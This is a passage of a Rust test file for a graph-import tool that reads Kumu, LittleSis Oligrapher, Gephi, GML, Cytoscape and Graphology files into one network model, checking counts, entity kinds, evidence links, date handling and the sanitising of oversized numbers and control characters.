    assert_eq!(
        network.tie("e10").expect("e10").participants,
        ["n1:n5", "n1:n4"]
    );
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_kumu_workbook_of_elements_and_connections() {
    let Imported {
        network,
        report,
        format,
    } = import_real("kumu-paypal-mafia.xlsx");
    assert_eq!(format, Format::Xlsx);
    assert_eq!((network.entities.len(), network.ties.len()), (34, 49));
    let text = report.to_string();
    assert!(
        text.contains("the entities from sheet \"Elements\""),
        "Kumu's sheet of entities is read: {report}"
    );
    let kinds = |kind| network.entities.iter().filter(|e| e.kind == kind).count();
    assert_eq!(
        (kinds(EntityKind::Person), kinds(EntityKind::Company)),
        (17, 17)
    );
    let musk = network
        .entity("Elon Musk")
        .expect("Elon Musk, by his label");
    assert!(musk.attributes.contains_key("Image"), "kept, never fetched");
    assert!(
        network
            .ties
            .iter()
            .any(|t| t.participants.contains(&musk.id)
                && t.participants.iter().any(|p| p == "SpaceX")),
        "Musk's tie to SpaceX"
    );
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_oligrapher_2_map_from_littlesis() {
    let file = "oligrapher2-littlesis-map-942.json";
    let value = json_file(file);
    let count = |key: &str| value["graph"][key].as_object().expect(key).len();
    let (nodes, edges) = (count("nodes"), count("edges"));
    assert_eq!((nodes, edges), (26, 37));
    let Imported {
        network,
        report,
        format,
    } = import_real(file);
    assert_eq!(format, Format::Oligrapher);
    assert_eq!((network.entities.len(), network.ties.len()), (nodes, edges));
    assert_eq!(report.counts.positions, nodes, "{report}");
    let greenspan = network.entity("34963").expect("Alan Greenspan");
    assert_eq!(greenspan.display_name("en"), "Alan Greenspan");
    assert_eq!(greenspan.kind, EntityKind::Person);
    let fed = network.entity("15957").expect("the Federal Reserve");
    assert_eq!(fed.kind, EntityKind::Company, "a LittleSis /org/ page");
    let chair = network.tie("93362").expect("former chair");
    assert_eq!(chair.summary, "former chair");
    assert_eq!(chair.participants, ["34963", "15957"]);
    let source = network
        .source(&chair.evidence[0].source)
        .expect("its source");
    assert_eq!(
        source.url.as_deref(),
        Some("https://littlesis.org/relationship/view/id/93362")
    );
    assert_eq!(network.tie("11055").map(|t| t.kind), Some(TieKind::Role));
    assert_eq!(network.story.len(), 6, "one step per annotation");
    assert_eq!(network.story[0].entities, ["x1", "33180", "15957"]);
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_csv_edges_from_gephi_with_timesets() {
    let Imported {
        network, report, ..
    } = import_real("gephi-csv-timeset/testEdgesTableWithTimeset_Interval_edges.csv");
    let ids: Vec<&str> = network.entities.iter().map(|e| e.id.as_str()).collect();
    assert_eq!(ids, ["Fred", "Alice", "Dirk"]);
    assert_eq!(network.ties.len(), 3);
    assert!(report.findings.is_empty(), "{report}");
    assert!(report.notes.iter().any(|note| note.contains("directed")));
    // Two spells: the earliest start, and the spells stay.
    assert_eq!(date(&network, "e0").as_deref(), Some("2016-02-03"));
    assert_eq!(
        attribute(&network.tie("e0").expect("e0").attributes, "timeset"),
        Some("<[2016-02-03, 2016-02-04]; [2016-02-05, 2016-02-08]>")
    );
    // From a day onwards is not that day: the open interval stays too.
    assert_eq!(date(&network, "e1").as_deref(), Some("2016-03-04"));
    assert_eq!(
        attribute(&network.tie("e1").expect("e1").attributes, "timeset"),
        Some("<[2016-03-04, Infinity]>")
    );
    assert_eq!(date(&network, "e2").as_deref(), Some("2016-02-04"));
    assert_eq!(report.tie_attributes.get("timeset"), Some(&3));
    assert_eq!(
        attribute(&network.tie("e0").expect("e0").attributes, "Weight"),
        Some("2")
    );
    assert!(
        !network
            .ties
            .iter()
            .any(|tie| tie.attributes.contains_key("Type")),
        "the direction is not an attribute"
    );
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_csv_edges_from_gephi_matrix() {
    let file = "gephi-csv-matrix/testComplexMatrix_edges.csv";
    let text = std::fs::read_to_string(real(file)).expect("fixture");
    let rows: Vec<Vec<&str>> = text
        .lines()
        .skip(1)
        .map(|line| line.split(',').collect())
        .collect();
    let mut people: Vec<&str> = rows.iter().flat_map(|row| [row[0], row[1]]).collect();
    people.sort_unstable();
    people.dedup();
    let Imported {
        network, report, ..
    } = import_real(file);
    assert_eq!(network.ties.len(), rows.len());
    assert_eq!(network.entities.len(), people.len());
    assert_eq!((rows.len(), people.len()), (650, 26));
    assert!(report.findings.is_empty(), "{report}");
    let first = &network.ties[0];
    assert_eq!(
        first.participants,
        ["Bruno Pellaud", "Christian Van Singer"]
    );
    assert_eq!(attribute(&first.attributes, "Weight"), Some("24"));
    assert_eq!(report.tie_attributes.get("Weight"), Some(&rows.len()));
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_csv_nodes_from_gephi() {
    let Imported {
        network, report, ..
    } = import_real("gephi-csv-nodes/testNodesTableTypesTest_nodes.csv");
    assert_eq!(network.entities.len(), 5);
    assert!(network.ties.is_empty());
    assert!(report.findings.is_empty(), "{report}");
    assert_eq!(report.counts.names, 2, "two rows have a Label");
    assert_eq!(name(&network, "3", "en"), "3");
    assert!(network.entity("3").expect("3").attributes.is_empty());
    let first = network.entity("1").expect("1");
    assert_eq!(
        attribute(&first.attributes, "timeset"),
        Some("<[1.0, 5.0]; [10.0, 10.5]; [11.0, 16.0]>"),
        "entities have no dates"
    );
    assert_eq!(
        attribute(&first.attributes, "bigint"),
        Some("123456789123456789123456789123456789123456789123456789")
    );
    assert_eq!(
        attribute(&first.attributes, "intervallongmap"),
        Some("<[1.0, 2.0, 1]; [2.0, 3.0, 2]>")
    );
    assert_eq!(attribute(&first.attributes, "boolean"), Some("false"));
}

#[test]
#[ignore = "needs the real files: set POWERMAP_REAL_FILES (see docs/formats.md)"]
fn real_files_save_and_load_as_powermap_files() {
    let folder = tempfile::tempdir().expect("tempdir");
    for name in [
        "gephi-0.9.3-us-airports.gexf",
        "gephi-0.8.1-standard-graph-communities.gexf",
        "les-miserables-1.1.gexf",
        "gephi-miserables.graphml",
        "graph-tool-moviegalaxies.graphml",
        "yed-3.14.3-gml.graphml",
        "d3-miserables.json",
        "cytoscape-3.1.0-genemania.cyjs",
        "cytoscape-js-compound.json",
        "gephi-csv-timeset/testEdgesTableWithTimeset_Interval_edges.csv",
        "gephi-csv-matrix/testComplexMatrix_edges.csv",
        "gephi-csv-nodes/testNodesTableTypesTest_nodes.csv",
    ] {
        let imported = import_real(name);
        let path = folder.path().join("saved.json");
        save_network(&imported.network, &path, Overwrite::Replace).expect("save");
        let loaded = load_file(&path).unwrap_or_else(|err| panic!("{name}: {err}"));
        assert_eq!(loaded.network, imported.network, "{name}");
    }
}

#[test]
fn gml_from_networkx_with_repeated_edges_entities_and_positions() {
    let imported = import("networkx-multigraph.gml");
    assert_eq!(imported.format, Format::Gml);
    let network = &imported.network;
    assert_eq!(network.title, "Samsung meetings");
    assert_eq!(name(network, "0", "en"), "Lee Jae-yong");
    assert_eq!(
        network
            .entity("1")
            .and_then(|e| e.name.values().next().map(str::to_owned)),
        Some("일론 머스크".to_owned()),
        "&#…; entities decoded"
    );
    assert_eq!(
        network
            .entity("2")
            .and_then(|e| e.name.values().next().map(str::to_owned)),
        Some("Tesla & friends".to_owned())
    );
    assert_eq!(
        network.entity("0").map(|e| e.kind),
        Some(EntityKind::Person)
    );
    assert!(network.entity("0").is_some_and(|e| e.position.is_some()));
    let between = |a: &str, b: &str| {
        network
            .ties
            .iter()
            .filter(|t| {
                t.participants.contains(&a.to_owned()) && t.participants.contains(&b.to_owned())
            })
            .count()
    };
    assert_eq!(
        between("0", "1"),
        2,
        "both edges between the same two are kept"
    );
    assert_eq!(network.ties.len(), 3);
    assert_eq!(
        detect_format(b"graph [ node [ id 1 ] ]", Path::new("x.txt")),
        Some(Format::Gml)
    );
}

#[test]
fn broken_gml_says_where() {
    let folder = tempfile::tempdir().expect("tempdir");
    let path = folder.path().join("broken.gml");
    #[allow(clippy::disallowed_methods, reason = "a test fixture")]
    std::fs::write(&path, "graph [\n  node [ id 1 label \"Lee ]\n]\n").expect("write");
    let err = import_file(&path).expect_err("refused");
    let message = err.to_string();
    assert!(message.contains("broken.gml"), "{message}");
    assert!(message.contains("line 2"), "{message}");
    assert!(message.contains("closing quote"), "{message}");
}

#[test]
fn an_oligrapher_map_opens_with_kinds_positions_links_and_notes() {
    let imported = import_file(&fixture("oligrapher-map.json")).expect("opens");
    assert_eq!(imported.format, Format::Oligrapher);
    let network = &imported.network;
    assert_eq!(network.title, "Exxon's web");
    assert!(
        network
            .description
            .starts_with("Who holds and who ran ExxonMobil")
    );
    assert!(
        network
            .description
            .contains("Notes on the map: Figures as of 2017"),
        "captions are notes: {}",
        network.description
    );
    let exxon = network.entity("2").expect("ExxonMobil");
    assert_eq!(exxon.display_name("en"), "ExxonMobil");
    assert_eq!(
        exxon.kind,
        EntityKind::Company,
        "from its LittleSis address"
    );
    assert!(exxon.position.is_some(), "the map's places are kept");
    assert_eq!(
        exxon.attributes.get("image"),
        Some("https://littlesis.org/images/profile/74/exxon.png"),
        "the image is kept as an address, never fetched"
    );
    assert_eq!(
        network.entity("1045").map(|e| e.kind),
        Some(EntityKind::Person)
    );
    let investor = network
        .ties
        .iter()
        .find(|t| t.id == "332141")
        .expect("the edge");
    assert_eq!(investor.participants, ["9", "2"]);
    assert_eq!(investor.summary, "Institutional investor");
    assert_eq!(investor.attributes.get("arrow"), Some("1->2"));
    let source = network
        .source(&investor.evidence[0].source)
        .expect("its source");
    assert_eq!(
        source.url.as_deref(),
        Some("https://littlesis.org/relationships/332141")
    );
    let chief = network
        .ties
        .iter()
        .find(|t| t.id == "e2")
        .expect("the second edge");
    assert_eq!(chief.attributes.get("dash"), Some("true"));
    assert!(chief.evidence.is_empty(), "no link, no evidence made up");

    // The annotations are the map's story, their HTML made text.
    assert_eq!(network.story.len(), 2);
    let first = &network.story[0];
    assert_eq!(
        first.caption.values().next(),
        Some("The company: ExxonMobil and its largest investors.")
    );
    assert_eq!(first.entities, ["2", "9"]);
    assert_eq!(first.ties, ["332141"]);
    assert_eq!(network.story[1].ties, ["e2"]);
}

/// Oligrapher 2 (the maps LittleSis still serves) keeps each item's look under `display`,
/// with addresses that have no scheme and numbers as ids.
#[test]
fn an_oligrapher_2_map_reads_its_display_fields_and_categories() {
    let imported = import_file(&fixture("oligrapher2-map.json")).expect("opens");
    assert_eq!(imported.format, Format::Oligrapher);
    let network = &imported.network;
    assert_eq!(network.entities.len(), 4);
    assert_eq!(network.ties.len(), 3);
    let rex = network
        .entity("1045")
        .expect("Rex Tillerson, by his number");
    assert_eq!(rex.display_name("en"), "Rex Tillerson");
    assert_eq!(rex.kind, EntityKind::Person);
    let place = rex.position.expect("the map's place");
    assert_eq!((place.x, place.y), (-120.5, 40.25));
    assert_eq!(
        rex.attributes.get("image"),
        Some("https://s3.amazonaws.com/pai-littlesis/images/profile/rex.png"),
        "an address without a scheme is made whole, and never fetched"
    );
    assert_eq!(
        network.entity("2").map(|e| e.kind),
        Some(EntityKind::Company)
    );
    assert!(
        !network
            .entity("x1")
            .expect("Texas")
            .attributes
            .contains_key("url")
    );

    let tie = |id: &str| network.ties.iter().find(|t| t.id == id).expect(id);
    let position = tie("101");
    assert_eq!(position.kind, TieKind::Role, "the category \"Position\"");
    assert_eq!(position.participants, ["1045", "2"]);
    let source = network
        .source(&position.evidence[0].source)
        .expect("source");
    assert_eq!(
        source.url.as_deref(),
        Some("https://littlesis.org/relationship/view/id/101")
    );
    let ownership = tie("102");
    assert_eq!(ownership.kind, TieKind::Affiliate);
    assert_eq!(
        ownership.participants,
        ["2", "9"],
        "what is owned first, as powermap's affiliates read"
    );
    assert_eq!(ownership.attributes.get("arrow"), Some("true"));
    let drawn = tie("x1");
    assert_eq!(drawn.kind, TieKind::Other);
    assert!(drawn.evidence.is_empty() && !drawn.attributes.contains_key("arrow"));

    assert_eq!(network.story.len(), 2);
    assert_eq!(
        network.story[0].caption.values().next(),
        Some("Who ran it: Rex Tillerson ran ExxonMobil.")
    );
    assert_eq!(network.story[1].entities, ["9", "2"]);
}

#[test]
fn cytoscape_json_without_its_elements_wrapper_keeps_its_edges() {
    let imported = import_file(&fixture("cytoscape-no-elements.json")).expect("opens");
    assert_eq!(imported.format, Format::Cytoscape);
    let network = &imported.network;
    assert_eq!(network.entities.len(), 3);
    assert_eq!(
        network.ties.len(),
        2,
        "every edge is a tie:\n{}",
        imported.report
    );
    assert_eq!(network.ties[0].participants, ["n1", "n2"]);
    assert_eq!(
        network.entity("n3").map(|e| e.display_name("en")),
        Some("Yokohama")
    );
}

#[test]
fn graphology_json_keeps_every_edge_with_its_key_and_attributes() {
    let imported = import("graphology.json");
    assert_eq!(imported.format, Format::Graphology);
    let network = &imported.network;
    assert_eq!(network.title, "Board interlocks");
    assert_eq!(network.entities.len(), 4, "{}", imported.report);
    assert_eq!(
        network.ties.len(),
        4,
        "parallel edges and unkeyed edges are kept:\n{}",
        imported.report
    );
    assert_eq!(name(network, "lee", "ko"), "이재용");
    assert_eq!(
        network.entity("lee").map(|lee| lee.kind),
        Some(EntityKind::Person)
    );
    assert!(
        network
            .entity("samsung")
            .is_some_and(|s| s.position.is_some())
    );
    assert_eq!(date(network, "e1").as_deref(), Some("2022-10-27"));
    assert_eq!(date(network, "e2").as_deref(), Some("2025-07"));
    let ai5 = network.tie("e3").expect("the parallel edge");
    assert_eq!(ai5.participants, ["samsung", "tesla"]);
}

#[test]
fn sigma_demo_json_reads_pairs_and_clusters() {
    let imported = import("sigma-demo.json");
    assert_eq!(imported.format, Format::Graphology);
    let network = &imported.network;
    assert_eq!(network.entities.len(), 3);
    assert_eq!(
        network.ties.len(),
        3,
        "[source, target] pairs are ties:\n{}",
        imported.report
    );
    assert_eq!(network.ties[1].participants, ["gephi", "sigma.js"]);
    let cytoscape = network.entity("cytoscape").expect("a node keyed cytoscape");
    assert_eq!(cytoscape.display_name("en"), "Cytoscape");
    assert_eq!(
        attribute(&cytoscape.attributes, "cluster"),
        Some("Desktop tools")
    );
    assert_eq!(attribute(&cytoscape.attributes, "color"), Some("#6c3e81"));
    let sigma = network.entity("sigma.js").expect("sigma.js");
    assert_eq!(
        attribute(&sigma.attributes, "color"),
        Some("#ff0000"),
        "a node's own colour wins over its cluster's"
    );
    assert!(
        imported
            .report
            .notes
            .iter()
            .any(|note| note.contains("2 clusters")),
        "{}",
        imported.report
    );
}

#[test]
fn numbers_too_large_are_dropped_by_name_and_the_rest_opens() {
    let node_link = br#"{"nodes": [{"id": "a", "x": 1e999, "y": 1}, {"id": "b"}],
 "links": [{"source": "a", "target": "b", "weight": 1e999, "label": "met"}]}"#;
    let gml = b"graph [\n node [ id 1 label \"a\" graphics [ x 1e999 y 2 ] ]\n node [ id 2 label \"b\" ]\n edge [ source 1 target 2 weight 1e999 ]\n]\n";
    let csv = b"Source,Target,Weight,Label\na,b,1e999,met\nb,c,2,saw\n";
    for (bytes, name, place) in [
        (&node_link[..], "big.nodelink.json", "line 1, column 29"),
        (&gml[..], "big.gml", "graphics.x = 1e999"),
        (&csv[..], "big.csv", "line 2"),
    ] {
        let imported =
            import_bytes(bytes, Path::new(name)).unwrap_or_else(|err| panic!("{name}: {err}"));
        let network = &imported.network;
        assert!(
            !network.ties.is_empty(),
            "{name}: the edge stays:\n{}",
            imported.report
        );
        assert!(
            !network.ties[0].attributes.contains_key("weight")
                && !network.ties[0].attributes.contains_key("Weight"),
            "{name}: the weight is dropped"
        );
        assert!(
            network
                .entities
                .iter()
                .all(|entity| entity.position.is_none()),
            "{name}: no position made of infinity"
        );
        let found = &imported.report.findings[&Finding::OverflowingNumber];
        assert!(
            found.examples.iter().any(|example| example.contains(place)),
            "{name}: {:?}",
            found.examples
        );
        assert!(
            imported.report.to_string().contains("1e999"),
            "{name}: the report names the number:\n{}",
            imported.report
        );
    }
}

#[test]
fn control_characters_in_labels_are_removed_with_the_rows_named() {
    let csv = b"Source,Target,Label\nLee\x00,Altman,met\x1b[0m\nAltman,Son,signed\n";
    let imported = import_bytes(csv, Path::new("controls.csv")).expect("opens");
    let network = &imported.network;
    assert!(
        network.entity("Lee").is_some(),
        "the NUL is gone from the id"
    );
    assert_eq!(network.ties.len(), 2);
    let found = &imported.report.findings[&Finding::ControlCharacters];
    assert_eq!(
        found.count, 2,
        "the row's edge and the entity it made: {:?}",
        found.examples
    );
    assert!(
        found
            .examples
            .iter()
            .all(|example| example.contains("line 2")),
        "{:?}",
        found.examples
    );
}

#[test]
fn a_file_that_fits_two_formats_opens_as_one_and_says_so() {
    let both = br#"{"nodes": [{"id": "a"}, {"id": "b"}], "links": [{"source": "a", "target": "b"}],
 "elements": {"nodes": [{"data": {"id": "x"}}], "edges": []}}"#;
    let imported = import_bytes(both, Path::new("both.json")).expect("opens");
    assert_eq!(imported.format, Format::Cytoscape);
    assert!(
        imported
            .report
            .notes
            .iter()
            .any(|note| note.contains("also node-link JSON (name it …")),
        "{}",
        imported.report
    );
    let node_link = import_bytes(both, Path::new("both.nodelink.json")).expect("opens");
    assert_eq!(node_link.format, Format::NodeLink);
    assert_eq!(node_link.network.ties.len(), 1);
}
